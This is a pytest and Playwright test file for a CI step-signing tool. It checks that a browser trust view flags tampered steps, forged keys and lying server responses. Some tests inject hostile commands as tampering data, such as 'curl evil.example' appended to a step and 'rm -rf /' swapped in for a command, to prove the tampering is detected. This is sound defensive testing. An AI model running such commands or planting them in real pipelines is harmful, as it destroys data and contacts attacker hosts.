"""Trust as readers see it: a build that real agents made, then everything a server could do to how it looks."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from axe_playwright_python.sync_playwright import Axe
from click.testing import CliRunner
from playwright.sync_api import Browser, Route, expect

from pipeseal.cli.verify import verify
from pipeseal.pipeline.parse import parse_command_step
from pipeseal.pipeline.render import render_json, step_value
from pipeseal.pipeline.steps import Signature
from pipeseal.signing.fields import values_to_verify
from pipeseal.signing.jws import sign_jws
from pipeseal.signing.keys.digits import comparison_digits
from pipeseal.signing.keys.generate import KeyPair, generate_key_pair
from pipeseal.signing.keys.jwk import parse_jwks
from pipeseal.signing.keys.signing_key import FileSigningKey
from pipeseal.signing.payload import render_payload
from pipeseal.signing.sign import sign_step
from tests.controlplane.test_public import publish
from tests.web.trust_scene import KEY_ID, Reader, Scene, sign_in, trust_scene

pytestmark = pytest.mark.peer("chromium")
Readers = Callable[..., Reader]


@pytest.fixture(scope="module")
def scene(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Scene]:
    with trust_scene(tmp_path_factory.mktemp("trust")) as scene:
        scene.api.rest("POST", "/keys", {"jwks": scene.public, "description": "the uploader"})
        yield scene


@pytest.fixture(scope="module")
def signed_in(browser: Browser, scene: Scene) -> Any:
    return sign_in(browser, scene)


@pytest.fixture(scope="module")
def known(browser: Browser, scene: Scene, signed_in: Any) -> Any:
    """What a browser keeps of somebody who looked at the build before."""
    context = browser.new_context(storage_state=signed_in)
    reader = Reader(context, scene)
    reader.draw("bar")
    state = context.storage_state()
    context.close()
    assert state["origins"]
    return state


@pytest.fixture
def readers(browser: Browser, scene: Scene, signed_in: Any) -> Iterator[Readers]:
    made: list[Reader] = []

    def make(**options: Any) -> Reader:
        chosen = {"viewport": {"width": 1280, "height": 900}, "storage_state": signed_in, **options}
        made.append(Reader(browser.new_context(**chosen), scene))
        return made[-1]

    yield make
    for reader in made:
        reader.context.close()
    problems = [problem for reader in made for problem in reader.problems if "status of 40" not in problem]
    assert problems == []


@pytest.fixture(scope="module")
def shared_reader(browser: Browser, scene: Scene, known: Any) -> Iterator[Reader]:
    context = browser.new_context(viewport={"width": 1280, "height": 900}, storage_state=known)
    yield Reader(context, scene)
    context.close()


@pytest.fixture
def reader(shared_reader: Reader) -> Iterator[Reader]:
    """Somebody whose browser has seen the uploader's key before; one browser for all tests, and no lies stay."""
    yield shared_reader
    shared_reader.page.unroute_all(behavior="wait")
    shared_reader.context.set_offline(False)
    problems, shared_reader.problems = shared_reader.problems, []
    assert [problem for problem in problems if "status of 40" not in problem] == []


def resigned(scene: Scene, pair: KeyPair, text: str) -> str:
    """The step, signed with another key, for the same repository and with the same variables."""
    step = parse_command_step(text.encode())
    assert step.signature is not None and step.signature.signed_fields is not None
    job = scene.api.rest("GET", f"/pipelines/widgets/builds/1/jobs/{scene.job('lint')['id']}/env").json["env"]
    env = {name[5:]: job[name[5:]] for name in step.signature.signed_fields if name.startswith("env::")}
    step.env.pop("PIPESEAL_SEAL", None)
    signed = sign_step(step, key=FileSigningKey(pair.key), repository_url=job["BUILDKITE_REPO"], pipeline_env=env)
    return render_json(step_value(signed))


def test_good_build_is_verified_by_its_uploader(readers: Readers, scene: Scene) -> None:
    reader = readers()
    page = reader.draw("bar")
    assert reader.mark == "verified"
    assert f"Steps of all 4 jobs verified: signed by {KEY_ID} ({scene.thumbprint[:8]}…)" in reader.says
    assert "checked here" in reader.says
    # The first time it says where the key is from; the second time it is known.
    expect(page.get_by_text("this browser saw these keys here for the first time")).to_be_visible()
    assert list(reader.remember()["keys"]) == [scene.thumbprint]
    reader.draw("bar")
    assert reader.mark == "verified"
    # What to do about it is said until somebody has done it.
    expect(page.get_by_text("for the first time")).to_have_count(0)
    expect(page.locator(".trust-bar .digits")).to_have_text(comparison_digits(scene.thumbprint))
    page.get_by_role("link", name="say so").click()
    page.get_by_role("button", name="I compared it: trust").click()
    expect(page.get_by_text("you compared its thumbprint")).to_be_visible()
    reader.draw("bar")
    assert reader.mark == "verified"
    expect(page.get_by_text("Ask your team")).to_have_count(0)


def test_trust_tab_shows_who_signed_and_what_that_does_not_cover(reader: Reader, scene: Scene) -> None:
    page = reader.draw("tab")
    assert reader.mark == "verified"
    expect(page.locator("tbody .trust[data-trust=verified]")).to_have_count(4)
    expect(page.locator("dl code")).to_have_text(scene.thumbprint)
    expect(page.locator("dl .digits")).to_have_text(comparison_digits(scene.thumbprint))
    expect(page.get_by_text("it was the first one that this browser saw here")).to_be_visible()
    expect(page.get_by_role("heading", name="NOT covered")).to_be_visible()
    expect(page.get_by_text("logs, annotations and artifacts")).to_be_visible()
    expect(page.locator(".leopard")).to_contain_text(scene.api.url.removeprefix("http://"))


def test_job_shows_what_was_signed_and_sealed(reader: Reader, scene: Scene) -> None:
    page = reader.draw("job", "test")
    assert reader.mark == "verified"
    table = page.locator("table.signed")
    expect(table).to_contain_text('echo "$GREETING from {{matrix}}"')
    expect(table).to_contain_text('"LEVEL": "2"')
    expect(table).to_contain_text(scene.build["commit"])
    expect(table).not_to_contain_text("PIPESEAL_SEAL")
    for what in ("command", "commit", "branch", "build", "pipeline", "matrix values"):
        expect(page.get_by_text(f"{what}: the same", exact=True)).to_be_visible()
    expect(page.get_by_role("heading", name="Seal")).to_be_visible()
    expect(page.get_by_text(f"{KEY_ID} ({scene.thumbprint})")).to_be_visible()


def test_step_changed_in_the_database_has_failed(reader: Reader, scene: Scene) -> None:
    with scene.tampered("lint", lambda text: text.replace("echo linted", "echo linted; curl evil.example")):
        reader.draw("bar")
        assert (reader.mark, "Steps of 1 of 4 jobs: Step check FAILED" in reader.says) == ("failed", True)
        page = reader.draw("job", "lint")
        assert reader.mark == "failed"
        expect(page.get_by_text(f"this is not the step that {KEY_ID} signed")).to_be_visible()
        expect(page.get_by_text("pipeseal explain signature.mismatch")).to_be_visible()
        expect(page.locator("table.signed")).to_have_count(0)
    reader.draw("bar")
    assert reader.mark == "verified"


def test_seal_of_another_step_has_failed(reader: Reader, scene: Scene) -> None:
    """Signed by the right key, and with a seal by the right key, which is of something else."""
    other = scene.api.rest("GET", f"/pipelines/widgets/builds/1/jobs/{scene.job('test')['id']}/signed-step").json
    (key,) = parse_jwks((scene.keys / "signing.json").read_bytes())

    def reseal(text: str) -> str:
        step = parse_command_step(text.encode())
        assert step.signature is not None and step.signature.signed_fields is not None
        fields = step.signature.signed_fields
        step.env["PIPESEAL_SEAL"] = other["payload"]["values"]["env"]["PIPESEAL_SEAL"]
        job = scene.api.rest("GET", f"/pipelines/widgets/builds/1/jobs/{scene.job('lint')['id']}/env").json["env"]
        values = values_to_verify(step, fields, repository_url=job["BUILDKITE_REPO"], environment=job)
        value = sign_jws(render_payload("EdDSA", values), FileSigningKey(key))
        return render_json(step_value(replace(step, signature=Signature("EdDSA", fields, value))))

    with scene.tampered("lint", reseal):
        reader.draw("job", "lint")
        assert (reader.mark, "the step was sealed with another step, command" in reader.says) == ("failed", True)


def test_facts_of_the_build_changed_in_the_database_have_failed(reader: Reader, scene: Scene) -> None:
    commit = scene.build["commit"]
    with scene.forged("UPDATE builds SET commit_id = :value WHERE number = 1", commit, "f" * 40):
        reader.draw("bar")
        assert reader.mark == "failed"


def test_step_without_its_signature_is_not_signed(reader: Reader, scene: Scene) -> None:
    def strip(text: str) -> str:
        step = json.loads(text)
        del step["signature"]
        return json.dumps(step)

    with scene.tampered("lint", strip):
        # The steps that were uploaded with it tell that there was one more.
        reader.draw("bar")
        assert (reader.mark, "Steps missing: an upload had another step" in reader.says) == ("missing", True)
        reader.draw("job", "lint")
        assert (reader.mark, reader.says) == ("unsigned", "Step not signed")


@pytest.mark.parametrize("kid", [KEY_ID, "somebody-else"])
def test_another_key_is_an_unknown_signer_whatever_it_is_called(reader: Reader, scene: Scene, kid: str) -> None:
    pair = generate_key_pair("EdDSA", kid)
    (listed,) = scene.api.rest("POST", "/keys", {"jwks": json.loads(pair.public_set)}).json
    try:
        with scene.tampered("lint", lambda text: resigned(scene, pair, text.replace("linted", "owned"))):
            page = reader.draw("job", "lint")
            assert reader.mark == "unknown_signer"
            assert f"{kid} ({pair.key.thumbprint()[:8]}…)" in reader.says
            assert ("a key of the same name that you trust" in reader.says) == (kid == KEY_ID)
            expect(page.get_by_text("you do not trust it in this browser")).to_be_visible()
        page = reader.visit("/local/keys")
        expect(page.get_by_role("heading", name="Other keys than this browser knows")).to_be_visible()
    finally:
        scene.api.rest("DELETE", f"/keys/{listed['id']}")


def test_key_of_a_signature_that_nobody_has_is_no_answer(reader: Reader, scene: Scene) -> None:
    pair = generate_key_pair("ES256", "unheard-of")
    with scene.tampered("lint", lambda text: resigned(scene, pair, text)):
        reader.draw("job", "lint")
        assert (reader.mark, "nobody gave this page the key unheard-of" in reader.says) == ("cannot_check", True)


def test_pin_in_the_link_is_the_only_key_that_counts(readers: Readers, scene: Scene) -> None:
    reader = readers()
    page = reader.draw("bar", fragment=f"#pin={scene.thumbprint}")
    assert (reader.mark, "Checked against the pin in your link." in reader.says) == ("verified", True)
    assert reader.remember() == {}
    other = readers()
    page = other.draw("bar", fragment=f"#pin={'A' * 43}")
    assert (other.mark, "that you do not trust" in other.says) == ("unknown_signer", True)
    # The tab goes on asking for it, until the reader says otherwise.
    page = other.draw("tab")
    assert other.mark == "unknown_signer"
    expect(page.locator(".leopard code")).to_have_text(f"pipeseal verify {scene.api.url}{scene.path}#pin={'A' * 43}")
    page.get_by_role("button", name="Forget the pin").click()
    expect(page.locator(".trust-bar .trust").first).to_have_attribute("data-trust", "verified")


def test_pin_of_a_link_to_another_page_counts_on_the_builds_that_follow(readers: Readers, scene: Scene) -> None:
    reader = readers()
    page = reader.visit(f"{scene.path.rpartition('/builds/')[0]}#pin={'A' * 43}")
    page.locator(f"a[href='{scene.path}']").first.click()
    expect(page.locator(".trust-bar .trust").first).to_have_attribute("data-trust", "unknown_signer")


def test_revoked_key_is_said_to_be_revoked(reader: Reader, scene: Scene) -> None:
    scene.api.rest("PATCH", f"/keys/{scene.thumbprint}", {"revoked": True})
    try:
        reader.draw("bar")
        assert (reader.mark, "whose key was revoked; server says: on 20" in reader.says) == ("revoked", True)
    finally:
        scene.api.rest("PATCH", f"/keys/{scene.thumbprint}", {"revoked": False})


# --- a server that lies in its answers ------------------------------------------------------------------------------


def test_server_cannot_show_another_command_beside_a_good_signature(reader: Reader) -> None:
    def change(build: Any) -> Any:
        for job in build["jobs"]:
            job["command"] = "rm -rf /" if job["step_key"] == "lint" else job["command"]
        return build

    reader.lie(r"/builds/1$", change)
    reader.draw("job", "lint")
    assert (reader.mark, "another command than the one that was signed" in reader.says) == ("failed", True)


def test_server_cannot_make_up_what_was_signed(reader: Reader) -> None:
    def change(found: Any) -> Any:
        found["payload"]["values"]["command"] = "echo linted; curl evil.example"
        return found

    reader.lie(r"/signed-step$", change)
    reader.draw("job", "lint")
    assert reader.mark == "failed"


def test_server_cannot_hide_fields_or_say_that_others_were_signed(reader: Reader) -> None:
    def change(found: Any) -> Any:
        found["signature"]["signed_fields"].remove("env")
        del found["payload"]["values"]["env"]
        return found

    reader.lie(r"/signed-step$", change)
    reader.draw("job", "lint")
    assert (reader.mark, "does not cover what it must: env" in reader.says) == ("failed", True)


def test_server_cannot_show_a_step_of_another_build(reader: Reader, scene: Scene) -> None:
    """A good signature, of a step that was signed for something else: shown as if it were this job's."""
    other = scene.api.rest("GET", f"/pipelines/widgets/builds/1/jobs/{scene.job('test')['id']}/signed-step").json
    reader.lie(r"/signed-step$", lambda found: {**other, "job_id": found["job_id"]})
    reader.draw("job", "lint")
    assert (reader.mark, "signed for step test, and the server shows lint" in reader.says) == ("failed", True)


def test_server_cannot_call_a_build_another_one(reader: Reader) -> None:
    reader.lie(r"/builds/1$", lambda build: {**build, "branch": "release"})
    reader.draw("bar")
    assert (reader.mark, "signed for branch main, and the server shows release" in reader.says) == ("failed", True)


@pytest.mark.parametrize("member", ["id", "commit", "branch"])
def test_server_cannot_keep_to_itself_which_build_it_is(reader: Reader, member: str) -> None:
    reader.lie(r"/builds/1$", lambda build: {name: one for name, one in build.items() if name != member})
    reader.draw("bar")
    assert (reader.mark, "and the server shows none" in reader.says) == ("failed", True)


def test_server_cannot_hand_over_a_key_in_anothers_name(reader: Reader, scene: Scene) -> None:
    pair = generate_key_pair("EdDSA", KEY_ID)
    forged = json.loads(pair.public_set)["keys"][0]
    lent = {"id": scene.thumbprint, "kid": KEY_ID, "algorithm": "EdDSA", "jwk": forged, "revoked_at": None}
    with scene.tampered("lint", lambda text: resigned(scene, pair, text)):
        reader.lie(r"/signed-step$", lambda found: {**found, "keys": [lent]})
        reader.draw("job", "lint")
        assert reader.mark == "unknown_signer"
        # It calls the key by the thumbprint that the reader trusts: worked out here, it is another.
        assert pair.key.thumbprint()[:8] in reader.says
    reader.lie(r"/keys\?", lambda keys: [{**lent, "created_at": "2026-01-01T00:00:00Z", "description": ""}])
    page = reader.visit("/local/keys")
    expect(page.get_by_text("The server calls this key by another thumbprint than it has.")).to_be_visible()


def test_server_cannot_keep_steps_to_itself(reader: Reader) -> None:
    reader.lie(r"/signed-steps\?", lambda found: found[:-1])
    reader.draw("bar")
    assert (reader.mark, "delivers no step of it" in reader.says) == ("missing", True)


def test_server_cannot_keep_what_was_signed_to_itself(reader: Reader) -> None:
    reader.lie(r"/signed-step$", lambda found: {**found, "payload": None})
    reader.draw("job", "lint")
    assert reader.mark == "missing"


def without(reader: Reader, leave_out: Callable[[Any], bool]) -> None:
    """Let the server show a build without some of its jobs, wherever it is asked."""
    jobs = {job["id"] for job in reader.scene.build["jobs"] if leave_out(job)}
    assert jobs
    reader.lie(
        r"/builds/1$", lambda build: {**build, "jobs": [job for job in build["jobs"] if job["id"] not in jobs]}
    )
    reader.lie(r"/signed-steps\?", lambda found: [one for one in found if one["job_id"] not in jobs])


@pytest.mark.parametrize(
    ("leave_out", "says"),
    [
        (
            lambda job: job["matrix"] == {"": "debian"},
            "step test was signed as 2 jobs, and the server does not show one",
        ),
        (lambda job: job["step_key"] == "lint", "an upload had another step, which the server does not show"),
        (lambda job: job["step_key"] not in ("lint", "test"), "uploaded by a step that the server does not show"),
    ],
)
def test_server_cannot_leave_out_what_signed_steps_speak_of(
    reader: Reader, leave_out: Callable[[Any], bool], says: str
) -> None:
    without(reader, leave_out)
    reader.draw("bar")
    assert (reader.mark, says in reader.says) == ("missing", True), reader.says
    page = reader.draw("tab")
    expect(page.locator(".notice.bad li")).to_contain_text([says])


@pytest.mark.parametrize(
    ("started", "says"),
    [
        ("2001-09-09T01:46:40.000Z", "started 2001-09-09 01:46 UTC, and its seal is good from"),
        ("2199-01-01T00:00:00.000Z", "started 2199-01-01 00:00 UTC, and its seal was good until"),
        ("yesterday", "started at no time that a calendar has"),
    ],
)
def test_server_cannot_say_that_a_job_ran_when_its_seal_was_not_good(reader: Reader, started: str, says: str) -> None:
    def change(build: Any) -> Any:
        for job in build["jobs"]:
            job["started_at"] = started if job["step_key"] == "lint" else job["started_at"]
        return build

    reader.lie(r"/builds/1$", change)
    reader.draw("bar")
    assert (reader.mark, says in reader.says) == ("failed", True), reader.says


@pytest.mark.parametrize(
    ("key", "rules", "says"),
    [
        ("lint", ["queue=deploy"], "agents with queue=default, and the server gives it to agents with queue=deploy"),
        ("lint", ["queue=default", "os=mac"], "and the server gives it to agents with os=mac, queue=default"),
        ("upload", None, "agents with queue=uploader, and the server gives it to agents with queue=default"),
    ],
)
def test_server_cannot_give_a_step_to_other_agents(reader: Reader, key: str, rules: Any, says: str) -> None:
    def change(build: Any) -> Any:
        for job in build["jobs"]:
            if (job["step_key"] or "upload") == key:
                job["agent_query_rules"] = rules
        return build

    reader.lie(r"/builds/1$", change)
    reader.draw("bar")
    assert (reader.mark, says in reader.says) == ("failed", True), reader.says


def test_server_cannot_take_all_signatures_off_without_a_word(readers: Readers, known: Any) -> None:
    """A later build as the one that was signed, without signatures; it even says that it is an earlier one."""
    bare: dict[str, Any] = {"signature": None, "payload": None, "keys": []}

    def strip(reader: Reader) -> None:
        reader.lie(r"/builds/2$", lambda build: {**build, "number": 0})
        reader.lie(r"/builds/2/signed-steps\?", lambda found: [{**one, **bare} for one in found])

    reader = readers(storage_state=known)
    strip(reader)
    page = reader.draw("bar", number=2)
    assert reader.mark == "unsigned", reader.says
    lost = page.get_by_role("note", name="Signing lost")
    expect(lost).to_contain_text("Signing lost: this browser found the steps of #1 signed, last on 20")
    lost.get_by_role("button", name="say it no more").click()
    expect(lost).not_to_contain_text("this browser found")
    # Somebody who was never here has the server's word for what was before.
    other = readers()
    strip(other)
    page = other.draw("bar", number=2)
    expect(page.get_by_role("note", name="Signing lost")).to_contain_text("the steps of #1 carry signatures")
    assert "server says" in other.says
    # What came before the first signed build is no loss.
    reader.draw("bar")
    assert reader.mark == "verified"
    expect(page.get_by_role("note")).to_have_count(1)


def test_steps_of_a_running_build_are_checked_so_far(reader: Reader) -> None:
    reader.lie(r"/builds/1$", lambda build: {**build, "state": "running", "finished_at": None})
    reader.draw("bar")
    assert (reader.mark, "Running: the steps of 4 jobs so far are verified" in reader.says) == ("pending", True)


def test_what_breaks_in_the_check_proves_nothing(readers: Readers, known: Any) -> None:
    reader = readers(storage_state=known)
    reader.page.route("**/web/trust/worker.js", lambda route: route.abort())
    reader.problems.clear()
    reader.draw("job", "lint")
    assert reader.mark == "cannot_check"
    reader.problems.clear()


# --- pages as they are visited --------------------------------------------------------------------------------------


def test_pages_of_build_and_job_carry_the_bar_and_the_tabs(reader: Reader, scene: Scene) -> None:
    page = reader.visit(scene.path)
    expect(page.locator(".trust-bar .trust").first).to_have_attribute("data-trust", "verified")
    page.get_by_role("link", name="Details").click()
    expect(page.locator("table.by-job .trust[data-trust=verified]")).to_have_count(4)
    page.locator("table.by-job").get_by_role("link", name="Lint").click()
    expect(page.get_by_role("heading", name="What was signed")).to_be_visible()
    page.get_by_role("link", name="Look at the key").click()
    expect(page.get_by_role("heading", name=f"Key {KEY_ID}")).to_be_visible()
    expect(page.get_by_role("link", name="widgets #1")).to_be_visible()


def test_refused_job_says_what_differed_why_and_what_to_do(reader: Reader, scene: Scene) -> None:
    refusal = {
        "code": "command.differs",
        "message": "the command is not the one that was signed",
        "fields": ["command"],
        "evidence": {"command": "signed sha256 3b1e77…, received sha256 c09a10…"},
    }
    job = scene.job("lint")["id"]
    query = f"UPDATE jobs SET refusal = :value WHERE id = '{job}'"
    with scene.forged(query, None, json.dumps(refusal)):
        page = reader.visit(scene.job_path("lint"))
        expect(page.get_by_role("heading", name="Refused by agent linux-1; nothing was run")).to_be_visible()
        expect(page.get_by_text("signed sha256 3b1e77…, received sha256 c09a10…")).to_be_visible()
        expect(page.get_by_text("somebody edited the job's command after the step was signed")).to_be_visible()
        expect(page.get_by_text("pipeseal explain command.differs")).to_be_visible()
        page = reader.visit("/local/widgets/settings/signing")
        expect(page.get_by_role("cell", name="command.differs", exact=True)).to_be_visible()
    unnamed = {"code": "of.a_newer_agent", "message": "<b>something new</b>", "fields": [], "evidence": {}}
    with scene.forged(query, None, json.dumps(unnamed)):
        page = reader.draw("refused", "lint")
        expect(page.get_by_text("<b>something new</b>")).to_be_visible()


def test_settings_say_how_signing_stands_and_that_agents_decide(reader: Reader) -> None:
    page = reader.visit("/local/widgets/settings/signing")
    expect(page.get_by_role("row", name="3 a signature and a seal")).to_be_visible()
    expect(page.get_by_text("This page reports, and asks; it enforces nothing.")).to_be_visible()
    expect(page.get_by_text("None of 4 jobs that agents ended.")).to_be_visible()


def test_reader_decides_about_keys(readers: Readers, scene: Scene) -> None:
    reader = readers()
    page = reader.visit("/local/keys")
    expect(page.get_by_text("Nothing is trusted here yet.")).to_be_visible()
    page.get_by_label("Public keys", exact=True).fill((scene.keys / "signing.json").read_text())
    page.get_by_role("button", name="Trust these keys").click()
    expect(page.get_by_role("alert").first).to_contain_text("that is a private key")
    page.get_by_label("Public keys", exact=True).fill((scene.keys / "verification.json").read_text())
    page.get_by_role("button", name="Trust these keys").click()
    expect(page.get_by_text("you added it to this browser")).to_be_visible()
    reader.draw("bar")
    assert reader.mark == "verified"
    page = reader.visit("/local/keys")
    page.get_by_role("button", name="Do not trust").click()
    expect(page.get_by_text("Key not trusted by you")).to_be_visible()
    reader.draw("bar")
    assert reader.mark == "unknown_signer"
    page = reader.visit("/local/keys")
    page.get_by_role("button", name="I compared it: trust").click()
    expect(page.get_by_text("you compared its thumbprint")).to_be_visible()
    reader.draw("bar")
    assert reader.mark == "verified"


def test_owner_lists_a_key_for_readers(readers: Readers, scene: Scene) -> None:
    pair = generate_key_pair("ES384", "another-uploader")
    page = readers().visit("/local/keys")
    page.get_by_label("Public keys to list").fill(pair.public_set)
    page.get_by_label("What they are for").fill("the other cluster")
    page.get_by_role("button", name="List these keys").click()
    item = page.get_by_role("listitem").filter(has_text="another-uploader")
    expect(item).to_contain_text("the other cluster")
    item.get_by_role("button", name="Say it is revoked").click()
    expect(item.locator(".trust")).to_have_attribute("data-trust", "revoked")
    item.get_by_role("button", name="Take off the list").click()
    expect(page.get_by_text("another-uploader")).to_have_count(0)


def test_stranger_is_told_why_a_sealed_step_cannot_be_checked(readers: Readers, scene: Scene) -> None:
    publish(scene.api, "widgets", public_since="all")
    try:
        reader = readers(storage_state=None)
        page = reader.visit(scene.path)
        expect(page.locator(".trust-bar .trust").first).to_have_attribute("data-trust", "cannot_check")
        assert "the server does not show strangers what was signed: it holds the seal" in reader.says
    finally:
        scene.api.rest("PATCH", "/pipelines/widgets", {"visibility": "private"})


def test_plain_http_from_elsewhere_is_no_answer_and_says_what_helps(readers: Readers, scene: Scene) -> None:
    """Browsers have no WebCrypto there; nothing else is tried in its place."""
    publish(scene.api, "widgets", public_since="all")
    try:
        reader = readers(storage_state=None)
        host = "http://ci.example.test"

        def fetch(route: Route) -> None:
            route.fulfill(response=route.fetch(url=route.request.url.replace(host, scene.api.url)))

        reader.page.route(f"{host}/**", fetch)
        reader.page.goto(host + scene.path)
        assert reader.page.evaluate("globalThis.crypto.subtle === undefined")
        expect(reader.page.locator(".trust-bar .trust").first).to_have_attribute("data-trust", "cannot_check")
        assert "this page came over plain http" in reader.says
        assert "Open this page over https" in reader.says
    finally:
        reader.problems.clear()  # a browser says itself that it ignores policies which need a secure context
        scene.api.rest("PATCH", "/pipelines/widgets", {"visibility": "private"})


def test_file_that_is_saved_checks_evidence_without_any_server(reader: Reader, scene: Scene, tmp_path: Path) -> None:
    page = reader.visit(f"{scene.path}/trust")
    with page.expect_download() as saved:
        page.get_by_role("button", name="Save the evidence").click()
    saved.value.save_as(tmp_path / "evidence.json")
    keys = ["--jwks-file", str(scene.keys / "verification.json")]
    # With code from elsewhere: the same, from the file and from the server.
    token = ["--token-file", str(scene.running.folder / "api-token")]
    for target in (str(tmp_path / "evidence.json"), scene.api.url + scene.path):
        done = CliRunner().invoke(verify, [target, *keys, *token])
        assert (done.exit_code, f"signed by {KEY_ID}" in done.stdout) == (0, True), done.output
    with page.expect_download() as saved:
        page.locator(".leopard").get_by_role("link", name="save the one-file verifier").click()
    saved.value.save_as(tmp_path / "verify.html")
    page.context.set_offline(True)
    page.goto((tmp_path / "verify.html").as_uri())
    page.get_by_label("Evidence").set_input_files(tmp_path / "evidence.json")
    page.get_by_label("Public keys").set_input_files(scene.keys / "verification.json")
    page.get_by_role("button", name="Check").click()
    expect(page.locator(".trust-bar .trust")).to_have_attribute("data-trust", "verified")
    expect(page.locator("li .trust[data-trust=verified]")).to_have_count(4)

    evidence = json.loads((tmp_path / "evidence.json").read_text())
    evidence["steps"][0]["payload"]["values"]["command"] += "; curl evil.example"
    (tmp_path / "evidence.json").write_text(json.dumps(evidence))
    page.get_by_label("Evidence").set_input_files(tmp_path / "evidence.json")
    page.get_by_role("button", name="Check").click()
    expect(page.locator(".trust-bar .trust")).to_have_attribute("data-trust", "failed")
    # Keys that the server gave along count for nothing.
    pair = generate_key_pair("EdDSA", KEY_ID)
    (tmp_path / "other.json").write_text(pair.public_set)
    page.get_by_label("Public keys").set_input_files(tmp_path / "other.json")
    page.get_by_role("button", name="Check").click()
    expect(page.locator("li .trust[data-trust=failed]")).to_have_count(4)


@pytest.mark.parametrize(("scheme", "width"), [("light", 1280), ("dark", 390)])
def test_everybody_can_use_these_pages(readers: Readers, known: Any, scene: Scene, scheme: str, width: int) -> None:
    reader = readers(storage_state=known, color_scheme=scheme, viewport={"width": width, "height": 900})
    paths = [f"{scene.path}/trust", scene.job_path("lint", "trust")]
    with scene.tampered("lint", lambda text: text.replace("echo linted", "echo")):
        for path in paths:
            page = reader.visit(path)
            page.wait_for_selector("[aria-busy]", state="detached")
            found = Axe().run(page)
            assert found.violations_count == 0, (path, found.generate_report())
            assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), path
    page = reader.draw("refused", "lint")
    # All ten states, some of which no step can be in.
    page.evaluate(
        """async () => {
          const { mark, STATES } = await import("/web/trust/states.js");
          const lines = Object.keys(STATES).map((state) => {
            const line = document.createElement("p");
            line.append(mark(state));
            return line;
          });
          document.getElementById("main").append(...lines);
        }"""
    )
    expect(page.locator(".trust")).to_have_count(10)
    found = Axe().run(page)
    assert found.violations_count == 0, found.generate_report()
